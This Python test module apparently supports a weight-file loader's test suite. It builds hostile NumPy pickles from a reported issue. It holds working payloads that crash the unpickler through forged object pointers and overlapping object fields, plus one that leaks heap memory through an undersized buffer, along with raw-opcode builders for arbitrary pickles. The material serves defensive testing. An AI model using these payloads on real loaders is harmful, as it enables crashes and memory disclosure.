"""Hostile pickles, written the way an attacker writes them: reductions NumPy never produces.

``Reduce(func, args, state)`` pickles as ``func(*args)`` followed by ``BUILD(state)``, so any call
with any state a file could encode is one line. ``ops(...)`` assembles raw opcodes for what no
Python object pickles into (a dict keyed by a million nested tuples, the same call repeated
through the memo). The payloads below are the ones issue 18 reported.
"""

from __future__ import annotations

import pickle
import struct
from typing import Any

import numpy as np

try:
    from numpy._core.multiarray import _reconstruct
except ImportError:  # NumPy 1
    from numpy.core.multiarray import _reconstruct


class Reduce:
    """Pickles as ``func(*args)`` then, if ``state`` is given, ``BUILD(state)``."""

    def __init__(self, func: Any, args: tuple, state: Any = None) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self) -> tuple:
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


def dtype(code: str, state: tuple) -> Reduce:
    """``numpy.dtype(code, False, True)`` with ``state`` for its BUILD (NumPy's own spelling)."""
    return Reduce(np.dtype, (code, False, True), state)


def plain_state(byte_order: str = "<", flags: int = 0) -> tuple:
    return (3, byte_order, None, None, None, -1, -1, flags)


def array(shape: tuple, dtype_: Any, raw: bytes) -> Reduce:
    """``_reconstruct(ndarray, (0,), b'b')`` then ``BUILD((1, shape, dtype, False, raw))``."""
    return Reduce(_reconstruct, (np.ndarray, (0,), b"b"), (1, shape, dtype_, False, raw))


def weights(value: Any, protocol: int = 2) -> bytes:
    """A weight file as the book writes one: a dict with the crafted value under ``W1``."""
    return pickle.dumps({"W1": value}, protocol=protocol)


# -- the three severe payloads of issue 18 ---------------------------------------------------------

_OBJECT_FLAGS = 63  # NumPy's flags of dtype('O'); bit 2 is NPY_LIST_PICKLE
_LIST_PICKLE = 2


def object_pointers() -> bytes:
    """``O8`` with its list-pickle flag cleared: the raw bytes become object pointers (segfault)."""
    pointers = dtype("O8", plain_state("|", _OBJECT_FLAGS & ~_LIST_PICKLE))
    return weights(array((1,), pointers, b"\x41" * 8))


def overlapping_object_field() -> bytes:
    """A void dtype whose object field overlaps an integer field (segfault)."""
    integer = dtype("i8", plain_state("<"))
    obj = dtype("O8", plain_state("|", _OBJECT_FLAGS))
    fields = {"a": (obj, 0), "b": (integer, 0)}
    void = dtype("V8", (3, "|", None, ("a", "b"), fields, 8, 1, 27 & ~_LIST_PICKLE))
    return weights(array((1,), void, b"\x41" * 8))


def short_buffer() -> bytes:
    """A sub-array dtype that says 16 bytes but holds 80; ``ndarray(shape, dtype, buffer)`` then
    reads 64 bytes past the buffer (the weights contain heap memory)."""
    float64 = dtype("f8", plain_state("<"))
    lying = dtype("V16", (3, "|", (float64, (10,)), None, None, 16, 8, 0))
    return weights(Reduce(np.ndarray, ((1,), lying, b"\x00" * 16)))


SEVERE = {"object_pointers": object_pointers, "overlapping_object_field": overlapping_object_field,
          "short_buffer": short_buffer}


# -- raw opcodes -----------------------------------------------------------------------------------


def unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def binint(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


def long1(value: int) -> bytes:
    data = value.to_bytes((value.bit_length() + 8) // 8 or 1, "little", signed=True)
    return pickle.LONG1 + bytes([len(data)]) + data


def ops(*parts: bytes, protocol: int = 2) -> bytes:
    """A pickle from opcode fragments: ``PROTO protocol``, the parts, ``STOP``."""
    return pickle.PROTO + bytes([protocol]) + b"".join(parts) + pickle.STOP


def global_(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()
